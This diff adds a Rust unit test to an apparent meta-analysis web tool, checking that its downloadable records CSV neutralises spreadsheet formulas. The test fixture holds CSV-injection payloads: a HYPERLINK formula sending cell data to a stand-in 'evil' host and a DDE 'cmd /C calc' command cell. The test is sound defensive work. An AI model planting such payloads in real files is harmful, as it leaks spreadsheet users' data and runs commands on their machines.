@@ -564,6 +564,56 @@ s3;12;4;12;14,5;3,5;15;\r\n";
         assert_eq!(v.k, 0);
     }
 
+    /// Issue 25, item 1: the records CSV the page offers for download must not carry a
+    /// formula that a spreadsheet would run; the numbers stay numbers.
+    #[test]
+    fn the_records_csv_neutralizes_formulas_in_ids_text_and_column_names() {
+        let csv = "id,m1i,sd1i,n1i,m2i,sd2i,n2i,note,@cmd\n\
+\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",1,1,10,2,1,10,\"+cmd|' /C calc'!A0\",a\n\
+@SUM(A1:A9),2,1,10,1,1,10,-x,-2\n\
+-1,3,1,10,3,1,10,plain,b\n";
+        let v = view(&Request {
+            csv: csv.into(),
+            measure: Some("MD".into()),
+            ..Request::default()
+        });
+        assert_eq!((v.k, v.bad_rows, v.error.as_deref()), (3, 0, None));
+        // The view and the JSON records keep the text as given; only the CSV is neutralised.
+        assert_eq!(v.records[0].id, "=HYPERLINK(\"http://evil/?x=\"&A1)");
+        // Neutralised cells are quoted; the negative yi right after the first id is not
+        // prefixed.
+        let text = &v.records_csv;
+        assert!(text.contains(",\"'@cmd\"\n"), "{text}");
+        assert!(
+            text.contains("\n\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",-1"),
+            "{text}"
+        );
+        // Read back (as `exemplar call --records` reads it), every text cell is text.
+        let back = csv_table::parse(text).unwrap();
+        let column = |name: &str| -> Vec<&str> {
+            let i = back.header.iter().position(|h| h == name).unwrap();
+            back.rows.iter().map(|r| r.fields[i].as_str()).collect()
+        };
+        assert_eq!(
+            column("id"),
+            [
+                "'=HYPERLINK(\"http://evil/?x=\"&A1)",
+                "'@SUM(A1:A9)",
+                // A text id that is a plain number stays as it is (see docs/RELIABILITY.md).
+                "-1"
+            ]
+        );
+        assert_eq!(column("note"), ["'+cmd|' /C calc'!A0", "'-x", "plain"]);
+        assert_eq!(column("'@cmd"), ["a", "-2", "b"]);
+        let yi: Vec<f64> = column("yi").iter().map(|y| y.parse().unwrap()).collect();
+        assert_eq!(yi, [-1.0, 1.0, 0.0]);
+        for row in &back.rows {
+            for field in &row.fields {
+                assert!(!csv_table::is_formula_like(field), "{field:?}");
+            }
+        }
+    }
+
     #[test]
     fn a_bad_csv_or_option_is_one_error_and_no_records() {
         let v = view(&Request {
